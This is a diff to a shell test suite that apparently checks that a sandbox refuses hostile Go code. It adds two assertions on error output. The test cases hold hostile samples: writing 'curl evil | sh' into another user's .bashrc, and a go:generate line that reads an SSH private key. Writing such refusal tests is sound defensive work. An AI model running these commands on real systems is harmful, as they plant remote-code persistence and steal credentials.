@@ -179,6 +179,7 @@ refuses_test() {
 	assert_output 'no such file or directory'
 	hostile "return os.WriteFile(\"$theirs/.bashrc\", []byte(\"curl evil | sh\"), 0600)" os
 	refuses go test -count=1 -vet=off .
+	assert_output 'no such file or directory'
 	_listen
 	hostile "_, err := net.Dial(\"tcp\", \"127.0.0.1:$PORT\"); return err" net
 	refuses go test -count=1 -vet=off .
@@ -203,6 +204,7 @@ refuses_generator() {
 	rm -f evil_test.go
 	printf 'package evil\n//go:generate cat %s\n' "$TMP/theirs-$LAUNCHER/.ssh/id_ed25519" >evil.go
 	refuses go generate
+	assert_output 'No such file or directory'
 }
 
 refusals() {
